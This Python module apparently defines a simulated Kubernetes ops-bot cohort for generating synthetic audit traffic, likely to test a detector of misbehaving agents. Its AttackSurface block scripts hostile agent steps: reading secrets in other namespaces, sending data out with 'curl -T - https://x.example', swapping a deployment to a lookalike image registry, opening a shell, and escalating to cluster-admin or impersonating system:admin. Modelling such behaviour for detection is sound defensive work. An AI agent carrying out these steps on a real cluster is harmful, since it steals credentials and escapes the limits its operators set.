"""Infra/ops bots: watch and remediate workloads in the production Kubernetes clusters
(restart, scale, roll out), read logs and events, page on-call."""

from __future__ import annotations

import random

from missionguard.pipeline.tools.simulate.catalog import (
    AttackSurface,
    Cohort,
    NetworkProfile,
    Step,
    TaskType,
    TaskVars,
)
from missionguard.pipeline.tools.simulate.vocabulary import hexid

__all__ = ["INFRA"]

_NAMESPACES = ("checkout", "payments", "search", "web", "notifications", "ml-serving", "auth")
_CLUSTERS = ("prod-eu-1", "prod-us-1")


def _vocabulary(name: str, rng: random.Random, tv: TaskVars) -> object:
    match name:
        case "cluster":
            return rng.choice(_CLUSTERS)
        case "ns" | "ns_n" | "other_ns_n":
            return rng.choice(_NAMESPACES)
        case "deploy":
            return f"{tv['ns']}-{rng.choice(('api', 'worker', 'web', 'cron'))}"
        case "pod" | "pod_n":
            return f"{tv['deploy']}-{hexid(rng, 5)}-{hexid(rng, 5)}"
        case "replicas":
            return rng.randrange(2, 12)
        case "incident":
            return f"INC-{rng.randrange(10_000, 99_999)}"
        case "secret_n":
            return rng.choice(("db-credentials", "stripe-api-key", "tls-cert", "jwt-signing-key"))
        case "node_n":
            return f"ip-10-30-{rng.randrange(0, 255)}-{rng.randrange(0, 255)}"
    return None


_K = "k8s://{cluster}/namespaces/{ns}"
_PODS = Step("k8s:list", _K + "/pods", {"verb": "list"})
_LOGS = Step("k8s:get", _K + "/pods/{pod_n}/log", {"subresource": "log"}, repeat=(1, 3))
_EVENTS = Step("k8s:list", _K + "/events")
_DEPLOY = Step("k8s:get", _K + "/deployments/{deploy}")
_PAGE = Step("pagerduty:incidents.update", "pagerduty://incidents/{incident}", {"note": True})

_TASKS = (
    TaskType(
        "health_sweep",
        (
            Step("k8s:list", "k8s://{cluster}/namespaces/{ns_n}/pods", repeat=(3, 7), gap=0.5),
            Step("k8s:list", "k8s://{cluster}/nodes"),
        ),
        5.0,
    ),
    TaskType(
        "restart_crashlooping_pod",
        (_PODS, _LOGS, _EVENTS, Step("k8s:delete", _K + "/pods/{pod}", deny=0.02), _PODS, _PAGE),
        2.0,
    ),
    TaskType(
        "scale_on_alert",
        (
            _DEPLOY,
            Step("k8s:patch", _K + "/deployments/{deploy}/scale", {"replicas": "{replicas}"}),
            _PODS,
            _PAGE,
        ),
        2.0,
    ),
    TaskType(
        "rollout_restart",
        (
            _DEPLOY,
            Step("k8s:patch", _K + "/deployments/{deploy}", {"field": "restartedAt"}),
            Step("k8s:get", _K + "/deployments/{deploy}/status", repeat=(2, 6), gap=10.0),
        ),
        1.0,
    ),
    TaskType(
        "investigate_latency",
        (
            _PODS,
            _LOGS,
            _EVENTS,
            Step(
                "prometheus:query",
                "prometheus://{cluster}/api/v1/query",
                {"query": "histogram_quantile"},
                repeat=(2, 5),
            ),
        ),
        2.0,
    ),
    TaskType(
        "parallel_health_sweep",
        (
            Step("k8s:list", "k8s://{cluster}/namespaces/{ns_n}/pods", repeat=(2, 5), gap=0.5),
            Step("prometheus:query", "prometheus://{cluster}/api/v1/query", {"query": "up"}),
        ),
        1.0,
        parallel=(2, 4),
    ),
)

_NOVEL = (
    TaskType(
        "rotate_tls_certificates",
        (
            Step("k8s:get", "k8s://{cluster}/namespaces/{ns_n}/secrets/tls-cert", repeat=(3, 7)),
            Step("k8s:update", "k8s://{cluster}/namespaces/{ns_n}/secrets/tls-cert", repeat=(3, 7)),
            Step("k8s:patch", _K + "/deployments/{deploy}", {"field": "restartedAt"}),
        ),
    ),
    TaskType(
        "drain_node_for_maintenance",
        (
            Step("k8s:patch", "k8s://{cluster}/nodes/{node_n}", {"unschedulable": True}),
            Step("k8s:create", _K + "/pods/{pod_n}/eviction", repeat=(5, 15), gap=2.0),
            Step("k8s:list", "k8s://{cluster}/nodes"),
        ),
    ),
)

_SURFACE = AttackSurface(
    collect=(
        Step(
            "k8s:get", "k8s://{cluster}/namespaces/{other_ns_n}/secrets/{secret_n}", repeat=(2, 6)
        ),
    ),
    exfiltrate=(
        Step("k8s:create", _K + "/pods", {"image": "alpine/curl:8.5.0"}),
        Step("k8s:create", _K + "/pods/{pod}/exec", {"command": "curl -T - https://x.example"}),
    ),
    inject=(
        Step(
            "k8s:patch", _K + "/deployments/{deploy}", {"image": "ghcr.io/acme-0ps/{deploy}:latest"}
        ),
        Step("k8s:create", _K + "/pods/{pod}/exec", {"command": "sh"}),
        Step("k8s:scale", _K + "/deployments/{deploy}/scale", {"replicas": 0}),
    ),
    enumerate=Step("k8s:list", "k8s://{cluster}/namespaces/{ns_n}/secrets"),
    escalate=(
        Step(
            "k8s:create",
            "k8s://{cluster}/clusterrolebindings",
            {"role": "cluster-admin", "subject": "ops-bot"},
            deny=0.7,
        ),
        Step(
            "k8s:create", "k8s://{cluster}/namespaces/kube-system/serviceaccounts/token", deny=0.8
        ),
        Step("k8s:impersonate", "k8s://{cluster}/users/system:admin", deny=0.9),
    ),
    probe=(
        Step("k8s:get", "k8s://{cluster}/namespaces/payments/secrets/stripe-api-key", deny=1.0),
        Step("k8s:list", "k8s://{cluster}/namespaces/payments/secrets", deny=0.8),
        Step(
            "k8s:create",
            "k8s://{cluster}/namespaces/payments/pods/{pod}/exec",
            {"command": "cat /var/run/secrets/stripe"},
            deny=0.4,
        ),
        Step("k8s:get", "k8s://{cluster}/namespaces/payments/configmaps/stripe-config"),
    ),
)

INFRA = Cohort(
    name="infra_ops",
    source="k8s-audit",
    prefix="ops",
    issuers=("sre@acme", "platform-eng@acme"),
    purpose=(
        "Keep production workloads healthy: list and inspect pods, logs, events and metrics; "
        "restart crash-looping pods, scale and roll out deployments, update on-call incidents. "
        "During maintenance windows drain nodes and rotate TLS certificates."
    ),
    allowed_actions=(
        "k8s:get",
        "k8s:list",
        "k8s:watch",
        "k8s:patch",
        "k8s:delete",
        "k8s:create",
        "k8s:update",
        "k8s:scale",
        "prometheus:query",
        "pagerduty:incidents.*",
    ),
    resource_scopes=(
        ("k8s://prod-*/namespaces/*", "k8s://prod-*/nodes*", "prometheus://*", "pagerduty://*"),
        ("k8s://*", "prometheus://*", "pagerduty://*"),
    ),
    denied_actions=("k8s:impersonate", "k8s:escalate", "k8s:bind"),
    max_rate_per_minute=(120.0, 300.0, None),
    tasks=_TASKS,
    novel_tasks=_NOVEL,
    surface=_SURFACE,
    network=NetworkProfile(
        ip_prefixes=("10.30.",),
        user_agents=("acme-ops-bot/2.7 (kubernetes-client/python 29.0)", "kubectl/v1.30.2"),
        auth_methods=("serviceaccount_token",),
    ),
    vocabulary=_vocabulary,  # type: ignore[arg-type]
    pace_s=(0.5, 5.0),
)
